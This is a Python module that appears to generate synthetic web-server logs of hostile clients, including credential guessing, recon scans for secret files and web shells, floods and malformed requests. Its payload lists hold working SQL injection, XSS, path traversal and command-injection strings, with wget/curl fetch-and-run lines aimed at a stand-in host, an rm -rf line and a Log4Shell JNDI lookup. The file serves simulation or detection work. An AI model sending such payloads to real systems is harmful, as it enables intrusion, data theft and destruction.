"""Clients who do harm: guessing, reconnaissance, probes, floods.

Used by: generate.py. Each function yields the requests of one intruder. The paths are those that
scanners were seen to ask for.
"""

from entry import Entry
from traffic import AGENTS, WORDS

SCRIPT = "python-requests/2.31.0"
USERS = ("admin root test user administrator guest info web backup oracle postgres support mysql "
         "ftp operator manager sales office demo service").split()
# What scanners ask for on any host.
RECON = ("/.env /.env.bak /.env.local /.git/config /.git/HEAD /.svn/entries /.aws/credentials "
         "/.ssh/id_rsa /.htpasswd /.DS_Store /config.php.bak /wp-config.php.bak /backup.zip "
         "/backup.sql /dump.sql /db.sql.gz /phpinfo.php /info.php /test.php /server-status "
         "/phpmyadmin/index.php /pma/index.php /adminer.php /admin/config.php /manager/html "
         "/solr/admin/info/system /actuator/env /actuator/heapdump /api/.env /laravel/.env "
         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci "
         "/boaform/admin/formLogin /HNAP1/ /owa/auth/x.js /ecp/Current/exporttool/ "
         "/_ignition/execute-solution /telescope/requests /debug/default/view "
         "/wp-content/plugins/hellopress/wp_filemanager.php /shell.php /alfa.php /c99.php "
         "/wso.php /xleet.php /wp-login.php /xmlrpc.php /administrator/index.php "
         "/jenkins/login /hudson /console /invoker/JMXInvokerServlet /jmx-console/ /axis2/ "
         "/struts2-showcase/ /web.config /WEB-INF/web.xml /docker-compose.yml /id_rsa "
         "/config.json /secrets.yml").split()
# Names that no signature knows: only the number of missing pages tells.
DIRECTORIES = tuple(f"/{first}{second}"
                    for first in ("old", "new", "dev", "beta", "stage", "private")
                    for second in ("site", "files", "portal", "shop", "data", "web", "area"))
SQL = ("/item?id=1%27%20OR%20%271%27=%271", "/item?id=-1%20UNION%20ALL%20SELECT%201,2,3--%20-",
       "/item?id=1%20AND%20SLEEP(5)", "/item?id=1;SELECT%20pg_sleep(5)--",
       "/item?id=1%27%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.tables)%3E0--",
       "/item?id=benchmark(5000000,md5(1))", "/item?id=1%27%20waitfor%20delay%20%270:0:5%27--",
       "/item?id=extractvalue(1,concat(0x7e,version()))")
XSS = ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
       "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
       "/search?q=%3Csvg/onload=prompt(1)%3E", "/search?q=javascript:alert(document.cookie)",
       "/search?q=%27%3E%3Ciframe%20src=javascript:alert(2)%3E")
TRAVERSAL = ("/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
             "/view?page=....//....//....//etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
             "/get?f=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
             "/image?p=..%5c..%5cboot.ini")
COMMANDS = ("/cgi-bin/test.cgi?;cat%20/etc/passwd", "/setup.cgi?cmd=wget+http://192.0.2.66/x.sh",
            "/ping?host=127.0.0.1%7Cid",
            "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws",
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
            "&vars[0]=system&vars[1][]=id",
            "/api?x=$(curl%20192.0.2.66)")
SHELLS = ("/shell.php", "/c99.php", "/r57.php", "/wso.php", "/alfa.php", "/b374k.php",
          "/cmd.php?cmd=id")
LOG4SHELL = "${jndi:ldap://192.0.2.66:1389/a}"


def paced(rng, at, gap):
  """Times with gaps of about so many seconds."""
  while True:
    yield at
    at += gap * (0.7 + 0.6 * rng.random())


def guessing(rng, at, client, login, attempts, gap, success=False, agent=SCRIPT):
  """Passwords for a form; success: the last one is right."""
  times = paced(rng, at, gap)
  for _ in range(attempts):
    yield from login.attempt(next(times), client, False, agent)
  if success:
    yield from login.attempt(next(times), client, True, agent)


def basic_guessing(rng, at, client, attempts, gap, success=False):
  """Passwords for basic authentication, with the names that it tries in the log."""
  times = paced(rng, at, gap)
  for _ in range(attempts):
    yield Entry(next(times), client, "GET", "/internal/", 401, 460, "-", SCRIPT, rng.choice(USERS))
  if success:
    for _ in range(4):
      yield Entry(next(times), client, "GET", "/internal/", 200, 5200, "-", SCRIPT, "admin")


def scan(rng, at, client, paths, gap, status=404, size=196, method="GET", agent=AGENTS[0]):
  times = paced(rng, at, gap)
  for path in paths:
    yield Entry(next(times), client, method, path, status, size, "-", agent)


def flood(at, client, requests, seconds, target="/search?q=x", status=200):
  for number in range(requests):
    yield Entry(at + seconds * number / requests, client, "GET", f"{target}{number}", status, 900,
                "-", AGENTS[0])


def errors(at, client, requests, seconds, status=500):
  for number in range(requests):
    yield Entry(at + seconds * number / requests, client, "POST", "/api/orders", status, 0, "-",
                AGENTS[2])


def garbage(rng, at, client, requests, gap):
  """What is no HTTP: the server answers 400 and writes the bytes escaped."""
  times = paced(rng, at, gap)
  for number in range(requests):
    text = "".join(f"\\x{rng.randrange(256):02x}" for _ in range(12)) + f"\\x{number:02x}"
    yield Entry(next(times), client, "-", "-", 400, 157, raw_request="\\x16\\x03\\x01" + text)


def missing_words(rng, count):
  """Paths that differ in words, not in numbers."""
  return [f"/{a}/{b}.php" for a, b in zip(rng.sample(WORDS, count), rng.sample(WORDS, count))]
